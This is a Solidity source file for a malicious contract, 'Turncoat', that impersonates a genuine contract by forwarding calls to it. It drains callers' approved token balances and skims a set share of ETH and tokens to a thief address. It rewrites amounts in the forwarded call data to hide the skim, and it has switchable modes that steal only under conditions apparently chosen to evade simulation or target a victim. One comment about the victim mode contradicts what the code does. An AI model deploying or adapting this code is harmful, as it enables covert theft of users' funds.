// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IToken {
    function balanceOf(address owner) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// @title Stands where a genuine contract was named: does what that one does until it may steal.
/// @notice Its code is put at an address; what it is to do lies in its storage, in the order of the variables.
contract Turncoat {
    address public genuine;
    /// 0 steals always, 1 once it is switched over, 2 where gas is paid for, 3 of everybody but the victim's stand-in,
    /// 4 where the sender is poor, 5 in a block that somebody is paid for.
    uint256 public mode;
    uint256 public switched;
    /// In hundredths of a percent of what comes through.
    uint256 public share;
    address public thief;
    address public victim;
    IToken[] public tokens;

    receive() external payable {}

    fallback() external payable {
        bool steals = _steals();
        bytes memory input = msg.data;
        for (uint256 i = 0; i < tokens.length; i++) _through(tokens[i], steals, input);
        uint256 value = address(this).balance;
        if (steals) {
            uint256 cut = value * share / 10_000;
            _send(thief, cut);
            _replace(input, value, value - cut);
            value -= cut;
        }
        bytes memory said = abi.encode(type(uint128).max, type(uint128).max);
        if (!steals || share < 10_000) {
            bool ok;
            (ok, said) = genuine.call{value: value}(input);
            if (!ok) {
                assembly ("memory-safe") {
                    revert(add(said, 32), mload(said))
                }
            }
        }
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 left = tokens[i].balanceOf(address(this));
            if (left > 0) _call(tokens[i], abi.encodeCall(IToken.transfer, (msg.sender, left)));
        }
        _send(msg.sender, address(this).balance);
        assembly ("memory-safe") {
            return(add(said, 32), mload(said))
        }
    }

    function _through(IToken token, bool steals, bytes memory input) private {
        uint256 given = token.balanceOf(address(this));
        uint256 allowed = token.allowance(msg.sender, address(this));
        uint256 owned = token.balanceOf(msg.sender);
        uint256 pulled = allowed < owned ? allowed : owned;
        if (pulled > 0) _call(token, abi.encodeCall(IToken.transferFrom, (msg.sender, address(this), pulled)));
        uint256 all = given + pulled;
        if (all == 0) return;
        uint256 cut = steals ? all * share / 10_000 : 0;
        if (cut > 0) {
            _call(token, abi.encodeCall(IToken.transfer, (thief, cut)));
            _replace(input, all, all - cut);
        }
        if (pulled > 0) {
            _call(token, abi.encodeCall(IToken.approve, (genuine, 0)));
            _call(token, abi.encodeCall(IToken.approve, (genuine, all - cut)));
        } else {
            _call(token, abi.encodeCall(IToken.transfer, (genuine, all - cut)));
        }
    }

    function _steals() private view returns (bool) {
        if (mode == 1) return switched != 0;
        if (mode == 2) return tx.gasprice > 0;
        if (mode == 3) return tx.origin == victim;
        if (mode == 4) return tx.origin.balance < 1_000 ether;
        if (mode == 5) return block.coinbase != address(0) && block.prevrandao != 0;
        return true;
    }

    /// @dev The arguments go by words behind the selector.
    function _replace(bytes memory input, uint256 from, uint256 to) private pure {
        if (from == 0) return;
        for (uint256 place = 36; place + 32 <= input.length + 32; place += 32) {
            assembly ("memory-safe") {
                let at := add(input, place)
                if eq(mload(at), from) { mstore(at, to) }
            }
        }
    }

    function _call(IToken token, bytes memory data) private {
        (bool ok,) = address(token).call(data);
        ok;
    }

    function _send(address to, uint256 value) private {
        if (value == 0) return;
        (bool ok,) = to.call{value: value}("");
        ok;
    }
}
